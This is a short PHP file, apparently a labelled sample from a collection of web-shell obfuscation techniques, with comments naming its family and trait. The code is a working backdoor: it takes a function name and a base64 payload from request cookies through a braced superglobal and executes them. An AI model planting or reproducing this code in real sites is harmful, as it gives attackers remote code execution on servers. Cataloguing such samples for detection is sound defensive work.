<?php
// Family: obfuscation/var-function
// Style: superglobal behind a braced string name
// Trait: ${'_COOKIE'} instead of the plain variable, value decoded and run through a variable function
$k = ${'_COOKIE'};
$run = $k['a'];
$run(base64_decode($k['b']));
